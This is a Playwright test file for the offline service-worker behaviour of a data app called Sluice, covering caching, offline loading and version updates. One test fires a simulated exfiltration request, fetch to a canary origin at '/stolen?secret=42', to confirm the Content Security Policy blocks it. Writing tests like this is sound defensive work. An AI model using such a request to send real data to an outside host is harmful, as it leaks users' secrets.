import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { cell, csv, expectDone, openData } from './journeys/actions';
import { StaticHost } from './static-host';

let host: StaticHost;
test.beforeEach(async ({ baseURL }) => {
  host = await StaticHost.start(baseURL ?? '');
});
test.afterEach(() => host.close());

/** Waits until the app's files are on the device and the page is under the service worker. */
async function untilKept(page: Page): Promise<void> {
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated', null, {
    timeout: 60_000,
  });
}

const caches = (page: Page) => page.evaluate(() => window.caches.keys());

test('after one visit the app opens without its host, and loads and profiles a sample and a file', async ({
  page,
}) => {
  await page.goto(host.address);
  await untilKept(page);
  host.close();
  await page.goto(`${host.address}#sample=breast-cancer`);
  await expectDone(page, 'Load breast-cancer', '569 × 31');
  await expectDone(page, 'Profile', '31 columns');
  await openData(page, csv('x,y\n1,2\n3,4\n', 'mine.csv'));
  await expectDone(page, 'Profile mine', '2 columns');
  await page.reload();
  await expectDone(page, 'Load breast-cancer', '569 × 31');
});

test('a context without any network behaves the same, lessons and all', async ({ page, context }) => {
  await page.goto(host.address);
  await untilKept(page);
  await context.setOffline(true);
  await page.reload();
  await page.getByRole('button', { name: 'Palmer penguins' }).click();
  await expectDone(page, 'Profile penguins', '8 columns');
  await cell(page, 'Load')
    .getByRole('button', { name: /^More for/ })
    .click();
  await page.getByRole('button', { name: 'About this step' }).click();
  await expect(page.getByRole('complementary', { name: 'About: Load' })).toContainText(
    'A file becomes a table.',
  );
});

test('what is kept are the app’s own files and nothing else, and they are fetched after the shell', async ({
  page,
}) => {
  await page.goto(host.address);
  await openData(page, csv('secret,b\n1,2\n', 'secret.csv'));
  await expectDone(page, 'Profile secret', '2 columns');
  await untilKept(page);
  const kept = await page.evaluate(async () => {
    const [name = ''] = await window.caches.keys();
    const requests = await (await window.caches.open(name)).keys();
    return requests.map((request) => request.url);
  });
  expect(kept.length).toBeGreaterThan(20);
  for (const url of kept) expect(url.startsWith(host.address)).toBe(true);
  expect(kept.filter((url) => /secret/.test(url))).toEqual([]);
  expect(kept.filter((url) => url.endsWith('.wasm.gz') || /wasm-[^/]*\.gz$/.test(url))).toHaveLength(1);
  expect(host.asked.indexOf('service-worker.js')).toBeGreaterThan(
    host.asked.findIndex((path) => /wasm/.test(path)),
  );
});

test('a request to another origin is stopped under the service worker too', async ({ page, canary }) => {
  await page.goto(host.address);
  await untilKept(page);
  await page.reload();
  const outcome = await page.evaluate(
    (origin) =>
      fetch(`${origin}/stolen?secret=42`).then(
        () => 'sent',
        () => 'stopped',
      ),
    canary.origin,
  );
  expect(outcome).toBe('stopped');
  expect(canary.heard).toEqual([]);
});
test.use({
  allowedErrors: [/Content Security Policy|Failed to fetch|ERR_INTERNET_DISCONNECTED|ERR_CONNECTION_REFUSED/],
});

test('a new version is said quietly, taken by a reload, and the old one goes', async ({ page }) => {
  await page.goto(host.address);
  await untilKept(page);
  const before = await caches(page);
  // A build with another script under another name, as a page that was open all the while would meet it.
  const renamed = (text: string) => text.replaceAll(/index-([\w-]{8})\.js/g, 'index-$1.js?v=2');
  host.change = (path, text) =>
    path === 'service-worker.js'
      ? renamed(text).replace(/"version":"\w+"/, '"version":"another"')
      : path === ''
        ? renamed(text)
        : text;
  await page.evaluate(async () => (await navigator.serviceWorker.ready).update());
  await expect(page.getByText('A new version of Sluice is ready.')).toBeVisible({ timeout: 30_000 });
  expect(await caches(page)).toHaveLength(2);
  await page.getByRole('button', { name: 'Reload', exact: true }).click();
  await expect.poll(() => caches(page).catch(() => [])).toEqual([`sluice-app ${host.address} another`]);
  expect(before).not.toEqual([`sluice-app ${host.address} another`]);
  await expect(page.getByText('A new version of Sluice is ready.')).toBeHidden();
  await expect(page.getByRole('heading', { name: 'See what is in your data.' })).toBeVisible();
});
